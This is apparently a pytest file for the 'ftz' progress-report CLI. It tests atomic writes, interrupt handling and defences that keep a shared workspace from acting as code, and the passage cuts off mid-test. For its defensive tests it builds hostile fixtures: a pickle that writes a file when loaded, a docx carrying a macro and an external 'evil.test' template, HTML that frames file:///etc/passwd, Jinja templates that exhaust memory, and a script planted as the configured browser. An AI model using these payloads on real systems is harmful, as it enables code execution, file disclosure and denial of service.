def test_a_record_file_never_grows_past_what_ftz_reads(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Records that would take the writer's file past the limit go to its next file; a batch
    no file can hold is refused (E004), nothing written."""
    from ftz_cli.store import append

    monkeypatch.setenv("FTZ_WRITER", "zhang")
    monkeypatch.setattr(append, "MAX_BYTES", 1800)
    for day in ("2021-03-29", "2021-03-30", "2021-03-31"):
        done = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", day, "--note", "进" * 200)
        assert done.exit_code == 0, done.stderr
    files = sorted(p.name for p in ws.glob("updates/*/*.yaml"))
    assert files == ["zhang.yaml", "zhang_2.yaml"], files
    assert all(p.stat().st_size <= 1800 for p in ws.glob("updates/*/*.yaml"))
    assert [u["date"] for u in history(ftz, ws, FLOW)] == ["2021-03-29", "2021-03-30", "2021-03-31"]
    before = snapshot(ws)
    big = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-28", "--note", "进" * 600)
    clean(big)
    assert big.exit_code == 1 and "E004" in big.stderr and "分成几次" in big.stderr
    assert snapshot(ws) == before


# -- 5. atomic output files, a manifest under a lock, ftz's own leftovers ---------------

def test_two_weekly_runs_into_one_folder_keep_each_others_entries(tmp_path: Path, ws: Path) -> None:
    import subprocess
    import sys

    out = tmp_path / "weekly"
    runs = [subprocess.Popen(
        [sys.executable, "-m", "ftz_cli", "--data", str(ws), "weekly", "--from", first, "--to", last,
         "--out", str(out), "-f", "md", "-f", "html", "--quiet"], stderr=subprocess.PIPE)
        for first, last in (("2021-03-01", "2021-04-30"), ("2021-05-01", "2021-06-30"))
        for _ in range(2)]
    for run in runs:
        assert run.wait(timeout=120) == 0, run.stderr.read().decode() if run.stderr else ""
    manifest = json.loads((out / ".ftz-outputs.json").read_text(encoding="utf-8"))
    briefs = {p.name for p in out.iterdir() if p.suffix in (".md", ".html")}
    assert briefs <= set(manifest), briefs - set(manifest)
    assert {"2021-W09.md", "2021-W17.html", "2021-W18.md", "2021-W26.html"} <= briefs
    assert not list(out.glob(".ftz-tmp-*"))
    # every file is ftz's: both runs again, without --force
    for first, last in (("2021-03-01", "2021-04-30"), ("2021-05-01", "2021-06-30")):
        again = subprocess.run([sys.executable, "-m", "ftz_cli", "--data", str(ws), "weekly", "--from",
                                first, "--to", last, "--out", str(out), "-f", "md", "-f", "html"],
                               capture_output=True, text=True, timeout=120)
        assert again.returncode == 0 and "E408" not in again.stderr, again.stderr


def test_a_crash_leaves_the_old_file_and_a_leftover_ftz_clears(ftz, ws: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    report = tmp_path / "简报.md"
    assert ftz("--data", str(ws), "report", "--as-of", "2021-04-30", "-o", str(report)).exit_code == 0
    old = report.read_bytes()
    real_fsync = os.fsync

    def crash(fd: int) -> None:  # the machine dies after part of the new file reached the disk
        real_fsync(fd)
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", crash)
    result = ftz("--data", str(ws), "report", "--as-of", "2021-05-10", "-o", str(report))
    assert result.exit_code == 130
    assert report.read_bytes() == old  # the old file whole, never half of the new one
    monkeypatch.undo()
    # a kill -9 would have left its temporary file beside it
    (tmp_path / ".ftz-tmp-abc123").write_bytes(old[: len(old) // 2])
    again = ftz("--data", str(ws), "report", "--as-of", "2021-05-10", "-o", str(report))
    assert again.exit_code == 0 and "E408" not in again.stderr, again.stderr
    assert report.read_bytes() != old and not list(tmp_path.glob(".ftz-tmp-*"))


def test_a_file_ftz_did_not_write_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine.csv"
    mine.write_text("my own notes\n", encoding="utf-8")
    result = ftz("--data", str(ws), "list", "--format", "csv", "-o", str(mine))
    clean(result)
    assert result.exit_code == 1 and "E408" in result.stderr
    assert mine.read_text(encoding="utf-8") == "my own notes\n"


def test_ctrl_c_while_ftz_starts_is_a_message_not_a_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    script = (
        "import sys\n"
        "class Interrupt:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'ftz_cli.cli.app':\n"
        "            raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Interrupt())\n"
        "from ftz_cli.cli.main import main\n"
        "sys.argv = ['ftz', 'validate']\n"
        "main()\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60,
                          cwd=tmp_path)
    assert done.returncode == 130 and done.stderr == "已中断，未写入任何内容。\n", done.stderr


def test_ctrl_c_wrapped_by_python_is_still_an_interrupt(ftz, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def wrapped(*args, **kwargs):  # Ctrl-C during a class's creation: Python raises RuntimeError
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt as err:
            raise RuntimeError("Error calling __set_name__") from err

    monkeypatch.setattr("ftz_cli.views.echo.summary_lines", wrapped)
    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31")
    assert result.exit_code == 130 and "内部错误" not in result.stderr
    assert "中断前已完整写入" in result.stderr


def test_an_output_among_the_records_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
    """list -o updates/…/导出.yaml wrote an export that ftz then read as records: every
    command stopped (E011) until someone found and removed it. E405, nothing written."""
    (ws / "updates" / "2021-06").mkdir()
    before = snapshot(ws)
    for args in (["list", "--format", "json", "-o", str(ws / "updates" / "2021-06" / "导出.yaml")],
                 ["weekly", "--from", "2021-06-01", "--to", "2021-06-30", "--out", str(ws / "updates" / "周报")],
                 ["sheet", "-o", str(ws / "updates" / "填报表.xlsx")]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "E405" in result.stderr and "进度文件夹 updates" in result.stderr, args
    assert {k: v for k, v in snapshot(ws).items() if not k.endswith(".lock")} == before
    assert not (ws / "updates" / "周报").exists()
    assert ftz("--data", str(ws), "list", "--format", "csv", "-o", str(ws / "导出.csv")).exit_code == 0


# -- 10. a shared workspace is data, never code (issue 23) ------------------------------
# outputs only where they belong: nodes are made in a temporary folder, never the machine's /dev

def _node(folder: Path, kind: str) -> Path:
    import os
    import socket
    import stat

    path = folder / kind
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.close()
    elif kind == "folder":
        path.mkdir()
    else:  # a character device like /dev/null, /dev/zero, /dev/full
        if os.geteuid() != 0:
            pytest.skip("making a device node needs root")
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, {"null": 3, "zero": 5, "full": 7}[kind]))
    return path


@pytest.mark.parametrize(("kind", "code", "words"), [
    ("null", "E009", "设备文件"), ("zero", "E009", "设备文件"), ("full", "E009", "设备文件"),
    ("fifo", "E009", "命名管道"), ("socket", "E009", "套接字"), ("folder", "E405", "文件夹")])
@pytest.mark.parametrize("command", [["list", "--format", "csv"], ["sheet"], ["report", "-f", "html"]])
def test_an_output_onto_a_node_is_refused_never_replaced_nor_read(
        tmp_path: Path, ws: Path, kind: str, code: str, words: str, command: list[str]) -> None:
    import os
    import stat

    from conftest import run_ftz

    node = _node(tmp_path, kind)
    before = os.lstat(node)
    done = run_ftz("--data", str(ws), *command, "--as-of", AS_OF, "-o", str(node), "--force", cwd=tmp_path)
    stderr = done.stderr.decode()
    assert done.returncode == 1 and f"错误 {code}" in stderr and words in stderr, stderr
    assert "Traceback" not in stderr and "内部错误" not in stderr
    after = os.lstat(node)
    assert stat.S_IFMT(after.st_mode) == stat.S_IFMT(before.st_mode) and after.st_ino == before.st_ino
    assert not list(tmp_path.glob(".ftz-*"))


@pytest.mark.parametrize("name", ["-", "/dev/stdout", "/dev/fd/1"])
def test_standard_output_by_any_name_is_a_stream(tmp_path: Path, ws: Path, name: str) -> None:
    from conftest import run_bash

    done = run_bash(f"ftz --data {ws} list --format csv -o {name} | head -c 30", tmp_path)
    assert done.returncode == 0 and done.stdout.startswith("id,area,"), done.stderr
    assert "E009" not in done.stderr and "Traceback" not in done.stderr


def test_a_weekly_killed_in_its_first_run_leaves_files_the_rerun_knows(tmp_path: Path, ws: Path) -> None:
    import subprocess
    import sys

    killed = ("import os, sys\n"
              "import ftz_cli.commands.output as output\n"
              "real, count = output.atomic_write, [0]\n"
              "def dying(path, data):\n"
              "    count[0] += 1\n"
              "    if count[0] == 5:\n"
              "        os._exit(137)  # kill -9: no finally, no manifest written after\n"
              "    real(path, data)\n"
              "output.atomic_write = dying\n"
              "from ftz_cli.cli.main import main\n"
              "sys.argv = ['ftz', *sys.argv[1:]]\n"
              "main()\n")
    out = tmp_path / "weekly"
    args = ["--data", str(ws), "weekly", "--from", "2021-03-01", "--to", "2021-04-30", "--out", str(out)]
    first = subprocess.run([sys.executable, "-c", killed, *args], capture_output=True, timeout=120)
    assert first.returncode == 137 and list(out.glob("*.md")), first.stderr
    again = subprocess.run([sys.executable, "-m", "ftz_cli", *args], capture_output=True, text=True,
                           timeout=120)
    assert again.returncode == 0 and "E408" not in again.stderr, again.stderr


# a setting that names a program is the user's, never the shared workspace's

def test_a_browser_named_in_a_shared_ftz_yaml_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
    script = tmp_path / "evil.sh"
    script.write_text("#!/bin/sh\ntouch PWNED\n", encoding="utf-8")
    script.chmod(0o755)
    (ws / "ftz.yaml").write_text(f"report:\n  browser: {script}\n", encoding="utf-8")
    for args in (["validate"], ["report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf")]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "ftz.yaml:2:3: 错误 E020" in result.stderr, result.stderr
        assert "FTZ_BROWSER" in result.stderr
    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "简报.pdf").exists()


def test_the_users_own_settings_may_name_the_browser(ftz, ws: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "mine" / "config.yaml"
    config.parent.mkdir()
    config.write_text(f"browser: {tmp_path / 'no-such-browser'}\n", encoding="utf-8")
    monkeypatch.setenv("FTZ_CONFIG", str(config))
    monkeypatch.delenv("FTZ_BROWSER", raising=False)
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf"))
    clean(result)
    assert result.exit_code == 1 and "E462" in result.stderr and str(config) in result.stderr
    config.write_text("browser: [1, 2]\n", encoding="utf-8")
    wrong = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(tmp_path / "简报.pdf"))
    clean(wrong)
    assert wrong.exit_code == 1 and str(config) in wrong.stderr


# templates named in ftz.yaml are data: no file outside their folder, bounded work

def _templates(ws: Path, body: str) -> None:
    (ws / "mine").mkdir(exist_ok=True)
    (ws / "mine" / "report.md.j2").write_text(body, encoding="utf-8")
    (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")


def test_a_template_symlink_leaving_its_folder_is_not_read(ftz, ws: Path, tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("root:SECRET-HASH\n", encoding="utf-8")
    _templates(ws, "{% include 'secret.j2' %}\n")
    (ws / "mine" / "secret.j2").symlink_to(secret)
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
    clean(result)
    assert result.exit_code == 1 and "E471" in result.stderr and "SECRET" not in result.stdout
    (ws / "mine" / "report.md.j2").unlink()
    (ws / "mine" / "report.md.j2").symlink_to(secret)  # the page itself
    again = ftz("--data", str(ws), "report", "--as-of", AS_OF)
    assert again.exit_code == 1 and "E471" in again.stderr and "SECRET" not in again.stdout
    (ws / "mine" / "report.md.j2").unlink()
    (ws / "mine" / "report.md.j2").write_text("{% include 'part.j2' %}\n", encoding="utf-8")
    (ws / "mine" / "part.j2").write_text("自定义\n", encoding="utf-8")
    (ws / "mine" / "inside.j2").symlink_to(ws / "mine" / "part.j2")  # inside the folder: fine
    assert ftz("--data", str(ws), "report", "--as-of", AS_OF).stdout == "自定义\n"


@pytest.mark.parametrize("body", [
    "{{ 'a' * 10000000000 }}", "{{ 'a' | center(10000000000) }}", "{{ '{:>9999999999}'.format(1) }}",
    "{{ 7 ** 999999999 }}", "{{ '%9999999999s' | format(1) }}",
    "{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}",
    "{% set a = 'x' * 999999 %}{% set b = a ~ a ~ a ~ a %}{% set c = b ~ b ~ b ~ b %}{% set d = c ~ c ~ c ~ c %}"
    "{% set e = d ~ d ~ d ~ d %}{% set f = e ~ e ~ e ~ e %}{% set g = f ~ f ~ f ~ f %}{{ g | length }}",
    "{% for a in range(100000) %}{% for b in range(100000) %}{{ loop.index }}{% endfor %}{% endfor %}",
])
def test_a_template_that_would_exhaust_the_machine_is_stopped(ws: Path, tmp_path: Path, body: str) -> None:
    """In a subprocess under a 3 GiB address-space limit: a failure here is not an OOM kill."""
    import subprocess
    import sys

    _templates(ws, body + "\n")
    limited = ("import resource, sys\n"
               "resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
               "import ftz_cli.views.sandbox as s\n"
               "s.MAX_SECONDS = 5.0\n"
               "from ftz_cli.cli.main import main\n"
               "sys.argv = ['ftz', *sys.argv[1:]]\n"
               "main()\n")
    done = subprocess.run([sys.executable, "-c", limited, "--data", str(ws), "report", "--as-of", AS_OF],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "E470" in done.stderr, done.stderr[-2000:]
    assert "report.md.j2" in done.stderr and "Traceback" not in done.stderr and "内部错误" not in done.stderr


def test_nested_loops_that_print_nothing_stop_at_the_time_limit(ftz, ws: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ftz_cli.views.sandbox.MAX_SECONDS", 1.0)
    _templates(ws, "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}\n")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
    clean(result)
    assert result.exit_code == 1 and "E470" in result.stderr and "秒" in result.stderr


def test_a_users_template_still_renders_within_the_limits(ftz, ws: Path) -> None:
    _templates(ws, "{% for i in range(3) %}{{ '-' * 10 }}{{ title }}{% endfor %}\n")
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.count("----------义乌自贸区建设推进情况简报") == 3


@pytest.mark.parametrize("templates", [False, True])
def test_every_html_page_carries_a_policy_that_loads_nothing(ftz, ws: Path, tmp_path: Path,
                                                            templates: bool) -> None:
    from ftz_cli.views.templating import CSP

    if templates:  # a colleague's page that tries to load before its <head>
        (ws / "mine").mkdir()
        (ws / "mine" / "report.html.j2").write_text(
            '<html data-x=">"><img src="http://127.0.0.1:9/x.png"><head></head><body>'
            '<iframe src="file:///etc/passwd"></iframe></body></html>\n', encoding="utf-8")
        (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
    out = tmp_path / "wk"
    assert ftz("--data", str(ws), "weekly", "--from", "2021-04-01", "--to", "2021-04-07", "--out", str(out),
               "-f", "html").exit_code == 0
    pages = [ftz("--data", str(ws), "report", "--as-of", AS_OF, "-f", "html").stdout,
             *(p.read_text(encoding="utf-8") for p in out.glob("*.html"))]
    for page in pages:
        head = page.split("<img", 1)[0].split("<body", 1)[0]
        assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in head, page[:300]
    assert "default-src 'none'" in CSP and "img-src data:" in CSP and "script-src" not in CSP


def test_a_printed_brief_fetches_and_embeds_nothing(ftz, ws: Path, tmp_path: Path) -> None:
    """A colleague's HTML template asks for a local file and a URL; the PDF has neither."""
    import http.server
    import shutil as sh
    import subprocess
    import threading

    if not (sh.which("chromium") and sh.which("pdftotext")):
        pytest.skip("needs chromium and pdftotext")
    hits: list[str] = []

    class Spy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"FETCHED-FROM-NETWORK")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    secret = tmp_path / "secret.txt"
    secret.write_text("LOCAL-SECRET-TEXT\n", encoding="utf-8")
    port = server.server_address[1]
    (ws / "mine").mkdir()
    (ws / "mine" / "report.html.j2").write_text(
        f'<html><body><p>正文</p><img src="http://127.0.0.1:{port}/img.png">'
        f'<iframe src="{secret.as_uri()}"></iframe><iframe src="http://127.0.0.1:{port}/frame"></iframe>'
        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css"><script>document.write("SCRIPT-RAN")</script>'
        "</body></html>\n", encoding="utf-8")
    (ws / "ftz.yaml").write_text("report:\n  templates: mine\n", encoding="utf-8")
    pdf = tmp_path / "简报.pdf"
    try:
        result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(pdf))
    finally:
        server.shutdown()
    assert result.exit_code == 0, result.stderr
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "正文" in text and "LOCAL-SECRET" not in text and "FETCHED" not in text and "SCRIPT-RAN" not in text
    assert hits == []


def _reference(tmp_path: Path, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> Path:
    """The bundled reference document with hostile parts added."""
    import zipfile

    from ftz_cli.core.resources import bundled

    out = tmp_path / "office.docx"
    with zipfile.ZipFile(bundled("templates") / "reference.docx") as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, (replace or {}).get(name, source.read(name)))
        for name, body in extra.items():
            target.writestr(name, body)
    return out


_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def test_a_reference_document_gives_only_styles_and_page_set_up(ftz, ws: Path, tmp_path: Path) -> None:
    import zipfile

    from ftz_cli.core.resources import bundled

    with zipfile.ZipFile(bundled("templates") / "reference.docx") as source:
        rels = source.read("word/_rels/document.xml.rels")
        settings = source.read("word/settings.xml")
    hostile = _reference(tmp_path, {
        "word/vbaProject.bin": b"MACRO-CODE" * 100,
        "word/embeddings/oleObject1.bin": b"OLE-PAYLOAD" * 100,
        "word/_rels/settings.xml.rels": _RELS + (
            f'<Relationship Id="rT" Type="{_REL}attachedTemplate" Target="http://evil.test/t.dotm" '
            'TargetMode="External"/></Relationships>').encode(),
        "customXml/huge.xml": b"\0" * (200 << 20),  # 200 MiB unpacked: dropped, never read
    }, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", (
        f'<Relationship Id="rO" Type="{_REL}oleObject" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rE" Type="{_REL}oleObject" Target="embeddings/oleObject1.bin"/>'
        f'<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        f'<Relationship Id="rI" Type="{_REL}image" Target="http://evil.test/x.png" TargetMode="External"/>'
        "</Relationships>").encode()),
        "word/settings.xml": settings.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rT"/></w:settings>')})
    assert hostile.stat().st_size < 2 << 20
    out = tmp_path / "简报.docx"
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(out), "--reference-doc", str(hostile))
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as brief:
        names = brief.namelist()
        everything = b"".join(brief.read(n) for n in names)
    ours = re.compile(r"word/embeddings/Microsoft_Excel_Sheet\d+\.xlsx")  # ftz's charts' own workbooks
    assert not [n for n in names if "vba" in n.lower() or "customXml" in n
                or "embeddings" in n and not ours.fullmatch(n)], names
    for needle in (b"evil.test", b"file:///", b"External", b"attachedTemplate", b"MACRO", b"OLE-PAYLOAD"):
        assert needle not in everything, needle
    assert out.stat().st_size < 2 << 20
    import docx

    assert docx.Document(str(out)).sections[0].left_margin == 1587 * 635  # the reference's page set-up


def test_a_reference_document_too_big_to_carry_is_refused(ftz, ws: Path, tmp_path: Path) -> None:
    hostile = _reference(tmp_path, {"word/media/image1.png": b"\0" * (100 << 20)})
    out = tmp_path / "简报.docx"
    result = ftz("--data", str(ws), "report", "--as-of", AS_OF, "-o", str(out), "--reference-doc", str(hostile))
    clean(result)
    assert result.exit_code == 1 and "E464" in result.stderr and "MB" in result.stderr and not out.exists()


# nothing from a cache runs code unless it is this user's alone

def _compiled(folder: Path) -> tuple[object, object]:
    import jinja2

    from ftz_cli.views.template_files import PrivateBytecodeCache

    cache = PrivateBytecodeCache(folder)
    env = jinja2.Environment(loader=jinja2.DictLoader({"t.j2": "hello"}), bytecode_cache=cache)
    env.get_template("t.j2")  # compiled and dumped
    bucket = cache.get_bucket(env, "t.j2", None, "hello")
    return cache, bucket


@pytest.mark.parametrize("attack", ["group-writable folder", "foreign entry", "symlinked folder",
                                    "foreign folder", "fifo entry"])
def test_a_compiled_template_is_loaded_only_from_the_users_own_folder(tmp_path: Path, attack: str) -> None:
    import os

    if os.geteuid() != 0 and attack.startswith("foreign"):
        pytest.skip("giving a file to another user needs root")
    folder = tmp_path / "bytecode"
    folder.mkdir(mode=0o700)
    cache, bucket = _compiled(folder)
    assert bucket.code is not None  # the user's own folder: used
    [entry] = list(folder.iterdir())
    if attack == "group-writable folder":
        folder.chmod(0o777)
    elif attack == "foreign entry":
        os.chown(entry, 65534, 65534)
    elif attack == "foreign folder":
        os.chown(folder, 65534, 65534)
    elif attack == "fifo entry":
        entry.unlink()
        os.mkfifo(entry)
    else:
        real = tmp_path / "elsewhere"
        folder.rename(real)
        folder.symlink_to(real)
    bucket.reset()
    cache.load_bytecode(bucket)
    assert bucket.code is None


def test_a_team_writable_cache_folder_is_not_where_entries_go(ftz, ws: Path, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "team"
    shared.mkdir()
    shared.chmod(0o777)
    monkeypatch.setenv("FTZ_CACHE_DIR", str(shared))
    _templates(ws, "{{ title }}\n")
    assert ftz("--data", str(ws), "report", "--as-of", AS_OF).exit_code == 0
    for path in shared.rglob("*"):
        if path.is_dir():
            assert not path.stat().st_mode & 0o022, path  # nothing another user could swap or write


# nothing silently unread; names that become files

@pytest.mark.parametrize("name", ["2021-04/zhang.yml", "2021-04/zhang.YAML", "2021-04/zhang.yaml.txt",
                                  "2021-04/old/zhang.yaml", "2021-04.yml"])
def test_a_record_file_ftz_would_not_read_is_named(ftz, ws: Path, name: str) -> None:
    path = ws / "updates" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"- id: {FLOW}\n  date: 2021-03-31\n  value: 1\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    shown = "updates/" + ("2021-04/old" if "/old/" in name else name)
    assert checked.exit_code == 0 and f"{shown}: 警告 W020" in checked.stderr, checked.stderr


def test_an_unreadable_month_folder_is_an_error_not_no_records(ftz, ws: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    (ws / "updates" / "2021-04").mkdir()
    (ws / "updates" / "2021-04" / "zhang.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-03-31\n  value: 1\n", encoding="utf-8")
    _fail_for(monkeypatch, "iterdir", "2021-04", errno.EACCES)
    for args in (["validate"], ["show", FLOW]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "E006" in result.stderr and "updates/2021-04" in result.stderr, args


def test_git_conflict_markers_have_their_own_message(ftz, ws: Path) -> None:
    (ws / "updates" / "2021-04").mkdir()
    (ws / "updates" / "2021-04" / "zhang.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-03-30\n  value: 1\n<<<<<<< HEAD\n- id: {FLOW}\n  date: 2021-03-31\n"
        f"  value: 2\n=======\n- id: {FLOW}\n  date: 2021-03-31\n  value: 3\n>>>>>>> origin/main\n",
        encoding="utf-8")
    for args in (["validate"], ["list"]):
        result = ftz("--data", str(ws), *args)
        clean(result)
        assert result.exit_code == 1 and "updates/2021-04/zhang.yaml:4:1: 错误 E021" in result.stderr, args
        assert "解决 git 冲突后再运行" in result.stderr and "冒号" not in result.stderr


def test_an_alias_on_a_plain_value_is_refused(ftz, ws: Path) -> None:
    (ws / "updates" / "2021-04.yaml").write_text(
        f"- id: {FLOW}\n  date: 2021-03-31\n  value: &v 5\n  note: *v\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1 and "updates/2021-04.yaml:4:9: 错误 E104" in checked.stderr


@pytest.mark.parametrize(("units", "code", "words"), [
    ('"..": [trade]', "E022", "只由点"), ('"a/b": [trade]', "E022", "/"), ('"a:b": [trade]', "E022", ":"),
    ('"NUL": [trade]', "E022", "保留"), ('"com1.txt": [trade]', "E022", "保留"),
    ('"a\\u0000b": [trade]', "E231", "控制字符"), ('"a\\eb": [trade]', "E231", "控制字符"),
    ('"市商务局": [trade]\n  "市商务局 ": [capital]', "", ""),  # the same name: one unit
    ('"Unit": [trade]\n  "unit": [capital]', "E022", "“Unit”和“unit”"),
    ('"ＡＢ": [trade]\n  "ab": [capital]', "E022", "“ＡＢ”和“ab”"),
])
def test_unit_names_that_cannot_be_file_names_are_refused(ftz, ws: Path, tmp_path: Path, units: str,
                                                          code: str, words: str) -> None:
    (ws / "ftz.yaml").write_text(f"units:\n  {units}\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    if not code:
        assert checked.exit_code == 0, checked.stderr
        return
    assert checked.exit_code == 1 and f"错误 {code}" in checked.stderr and words in checked.stderr, checked.stderr
    made = ftz("--data", str(ws), "sheet", "--as-of", AS_OF, "--by-unit", str(tmp_path / "out"))
    clean(made)
    assert made.exit_code == 1 and not (tmp_path / "out").exists()


def test_record_files_that_are_one_file_on_windows_are_refused(ftz, ws: Path) -> None:
    month = ws / "updates" / "2021-04"
    month.mkdir()
    for name, day in (("Zhang.yaml", 30), ("zhang.yaml", 31), ("con.yaml", 29)):
        (month / name).write_text(f"- id: {FLOW}\n  date: 2021-03-{day}\n  value: {day}\n", encoding="utf-8")
    checked = ftz("--data", str(ws), "validate")
    clean(checked)
    assert checked.exit_code == 1
    assert "updates/2021-04/zhang.yaml: 错误 E022 进度文件 updates/2021-04/zhang.yaml 和 updates/2021-04/Zhang.yaml" \
        in checked.stderr
    assert "updates/2021-04/con.yaml: 错误 E022" in checked.stderr


def test_a_writer_named_like_an_overflow_file_is_its_own_writer(ftz, ws: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from ftz_cli.core.names import safe_name, writer_of

    assert safe_name("zhang_2") == "zhang-2" and writer_of("updates/2021-04/zhang-2.yaml") == "zhang-2"
    assert safe_name("Zhang") == "zhang" and safe_name("con") == "con_"
    monkeypatch.setenv("FTZ_WRITER", "zhang_2")
    assert ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-30").exit_code == 0
    monkeypatch.setenv("FTZ_WRITER", "zhang")
    assert ftz("--data", str(ws), "update", FLOW, "--value", "2", "--date", "2021-03-31").exit_code == 0
    names = sorted(p.name for p in (ws / "updates").glob("*/*.yaml"))
    assert names == ["zhang-2.yaml", "zhang.yaml"], names
    assert ftz("--data", str(ws), "validate").exit_code == 0


def test_a_writer_in_a_shared_ftz_yaml_is_warned(ftz, ws: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    (ws / "ftz.yaml").write_text("writer: zhangsan\n", encoding="utf-8")
    assert "W021" not in ftz("--data", str(ws), "validate").stderr  # not in git: nothing shared
    (ws / ".git").mkdir()
    checked = ftz("--data", str(ws), "validate")
    assert checked.exit_code == 0 and "ftz.yaml: 警告 W021" in checked.stderr and "FTZ_WRITER" in checked.stderr
    config = tmp_path / "mine.yaml"
    config.write_text("writer: lisi\n", encoding="utf-8")
    monkeypatch.setenv("FTZ_CONFIG", str(config))
    monkeypatch.delenv("FTZ_WRITER", raising=False)
    assert ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31").exit_code == 0
    assert [p.name for p in (ws / "updates").glob("*/*.yaml")] == ["lisi.yaml"]  # the user's own wins


class _Poison:
    """A pickle that runs code when loaded: what another user would put in a shared cache."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (Path.write_text, (Path(self.marker), "PWNED"))


@pytest.mark.parametrize("attack", ["loose folder", "symlinked folder", "foreign entry", "symlinked entry"])
def test_a_kept_plan_is_loaded_only_from_the_users_own_folder(ws: Path, tmp_path: Path, attack: str) -> None:
    import datetime
    import os
    import pickle
    import sqlite3

    from ftz_cli.store import load, private
    from ftz_cli.store.workspace import Workspace, find

    (ws / "ftz.yaml").write_text("status:\n  stale_days: 45\n", encoding="utf-8")
    assert load.load(find(str(ws)), datetime.date(2021, 6, 30)).plan  # the index, with the plan kept in it
    assert find(str(ws)).settings.stale_days == 45  # and the settings
    folder = private.private_dir()
    assert folder is not None
    (entry,) = folder.glob("index-*.sqlite3")
    marker = tmp_path / "marker"
    with sqlite3.connect(entry) as db:
        assert db.execute("UPDATE kept SET value = ?", (pickle.dumps(_Poison(str(marker))),)).rowcount == 2
    db.close()
    for path in folder.glob("index-*.sqlite3-*"):
        path.unlink()
    if attack == "loose folder":
        folder.chmod(0o777)
    elif attack == "symlinked folder":
        real = tmp_path / "real"
        folder.rename(real)
        folder.symlink_to(real)
    elif attack == "foreign entry":
        if os.geteuid() != 0:
            pytest.skip("giving a file to another user needs root")
        os.chown(entry, 65534, 65534)
    else:
        target = tmp_path / "elsewhere.sqlite3"
        entry.rename(target)
        entry.symlink_to(target)
